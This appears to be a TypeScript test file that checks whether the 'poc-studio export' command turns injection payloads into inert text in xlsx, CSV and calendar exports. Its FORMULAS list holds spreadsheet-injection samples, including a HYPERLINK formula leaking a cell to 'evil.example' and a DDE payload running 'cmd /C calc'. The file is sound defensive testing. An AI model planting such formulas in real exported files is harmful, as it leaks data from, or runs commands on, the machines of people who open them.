/**
 * The injection corpus (test/fixtures/injection/payloads.json) through `poc-studio export`: the
 * example folder with every free text replaced by a payload (writeInjectionFolder), plus a project
 * whose every task is named by a payload and owned by people named by payloads. Every payload
 * arrives as text: a string cell in the workbook and no formula anywhere, the CSV field with the
 * formula guard (and nothing else changed), and in the calendar — which must still parse — each
 * SUMMARY equals the payload on one line, each ATTENDEE's CN the owner's name.
 */
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as ExcelJS from 'exceljs';
import * as YAML from 'yaml';
import { exportText, guardFormula } from '../../server/src/core/exports';
import { oneLine } from '../../server/src/core/reports/markdown';
import { PAYLOADS, writeInjectionFolder, type Placed } from '../webview/injection-corpus';
import { assertNoFormula, readWorkbook, rowsOf, runExport, vevents } from './export-read';

/** RFC 4180 records (the writer's inverse: quotes, doubled quotes, CRLF inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      (row = []), (field = ''), i++;
    } else field += c;
  }
  assert.ok(!quoted && field === '' && row.length === 0, 'the CSV ends with a complete record');
  return rows;
}

const TEAM = 5;

/** Texts a spreadsheet would run (DDE, HYPERLINK, arithmetic): task names beside the corpus. */
const FORMULAS = ['=1+1', '=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', "=cmd|' /C calc'!A0", '\t=1+1'];
const NAMES = [...PAYLOADS, ...FORMULAS];

/** A project: one task per payload and formula (name), owners named by payloads, the title a payload. */
function allPayloadsPlan(): string {
  return YAML.stringify({
    kind: 'project',
    id: 'all',
    title: PAYLOADS[0],
    start: '2027-02-01',
    team: Array.from({ length: TEAM }, (_, i) => ({ id: `o${i}`, name: PAYLOADS[PAYLOADS.length - 1 - i], role: 'engineer' })),
    tasks: NAMES.map((p, i) => ({ id: `I${i + 1}`, name: p, owner: `o${i % TEAM}`, start: '2027-02-01', duration: '1d' })),
  });
}

describe('injection corpus through poc-studio export', function () {
  this.timeout(60000);
  let dir: string;
  let placed: Placed[];
  /** The task names in export order: all.project.yaml, then the POC and the project of the injected examples. */
  let names: string[];
  let owners: string[];

  before(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'poc-studio-export-injection-'));
    placed = writeInjectionFolder(dir);
    fs.writeFileSync(path.join(dir, 'all.project.yaml'), allPayloadsPlan());
    const taskNames = (file: string) => placed.filter((p) => p.file === file && p.field === 'tasks.name').map((p) => p.payload);
    names = [...NAMES, ...taskNames('bank-log.poc.yaml'), ...taskNames('bank-log.project.yaml')];
    assert.strictEqual(names.length, NAMES.length + 19, 'every task name of the examples holds a payload');
    owners = NAMES.map((_, i) => PAYLOADS[PAYLOADS.length - 1 - (i % TEAM)]);
  });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('xlsx: every payload is a string cell as written, no cell is a formula', async () => {
    const r = runExport(['.', '--format', 'xlsx', '--out', 'x.xlsx', '--today', '2027-01-27', '--locale', 'en'], dir);
    assert.strictEqual(r.code, 0, r.stderr);
    const wb = await readWorkbook(path.join(dir, 'x.xlsx'));
    assertNoFormula(wb);
    const sheet = wb.getWorksheet('Tasks')!;
    const rows = rowsOf(sheet).slice(1);
    assert.deepStrictEqual(
      rows.map((x) => x[2]),
      names.map((n) => exportText(n)),
    );
    assert.deepStrictEqual(
      rows.slice(0, NAMES.length).map((x) => x[4]),
      owners.map((n) => exportText(n)),
    );
    // The formulas too: as written, in string cells (checked just below), not evaluated.
    assert.deepStrictEqual(rows.slice(PAYLOADS.length, NAMES.length).map((x) => x[2]), FORMULAS);
    for (let i = 2; i <= rows.length + 1; i++) {
      const cell = sheet.getCell(i, 3);
      assert.ok(cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.SharedString, `C${i} is text (type ${cell.type})`);
    }
    // The hours of the injected project's people (names are payloads too) are text as well.
    const hours = rowsOf(wb.getWorksheet('Hours')!);
    assert.ok(hours.length > 2);
    for (const row of hours.slice(1, -1)) assert.strictEqual(typeof row[0], 'string');
  });

  it('csv: every payload arrives as text, guarded against formulas, the record structure intact', () => {
    const r = runExport(['.', '--format', 'csv', '--today', '2027-01-27', '--locale', 'en'], dir);
    assert.strictEqual(r.code, 0, r.stderr);
    const text = r.stdout.toString('utf8');
    assert.strictEqual(text[0], '\ufeff');
    const rows = parseCsv(text.slice(1));
    assert.ok(rows.every((x) => x.length === 12), 'every record has the 12 columns');
    assert.deepStrictEqual(
      rows.slice(1).map((x) => x[2]),
      names.map((n) => guardFormula(exportText(n))),
    );
    assert.deepStrictEqual(rows.slice(1 + PAYLOADS.length, 1 + NAMES.length).map((x) => x[2]), FORMULAS.map((f) => `'${f}`));
    // Nothing a spreadsheet runs: no text field starts with = + - @ tab or CR.
    for (const row of rows.slice(1)) for (const f of [row[0], row[1], row[2], row[3], row[4], row[8]]) assert.ok(!/^[=+\-@\t\r]/.test(f), JSON.stringify(f));
  });

  it('ics: parses; one event per task, each SUMMARY the one-line payload, each ATTENDEE the owner', () => {
    const r = runExport(['.', '--format', 'ics', '--today', '2027-01-27', '--locale', 'en'], dir);
    assert.strictEqual(r.code, 0, r.stderr);
    const text = r.stdout.toString('utf8');
    for (const line of text.split('\r\n')) assert.ok(Buffer.byteLength(line) <= 75, line);
    // No line a payload could have started: every line is a property, a continuation or BEGIN/END of ours.
    const unfolded = text.replace(/\r\n /g, '').split('\r\n').filter(Boolean);
    assert.deepStrictEqual(unfolded.filter((l) => /^(BEGIN|END):/.test(l)).map((l) => l.split(':')[1]).filter((x, i, a) => a.indexOf(x) === i), ['VCALENDAR', 'VEVENT']);
    assert.strictEqual(unfolded.filter((l) => l === 'BEGIN:VEVENT').length, names.length);
    const evs = vevents(text);
    assert.deepStrictEqual(
      evs.map((e) => e.getFirstPropertyValue('summary')),
      names.map((n) => oneLine(exportText(n))),
    );
    assert.deepStrictEqual(
      evs.slice(0, NAMES.length).map((e) => e.getFirstProperty('attendee')!.getParameter('cn')),
      owners.map((n) => oneLine(exportText(n))),
    );
    // The full name, line breaks and all, is in the description.
    assert.ok((evs[PAYLOADS.indexOf('line one\nline two\r\nline three')].getFirstPropertyValue('description') as string).includes('line one\nline two\nline three'));
  });
});
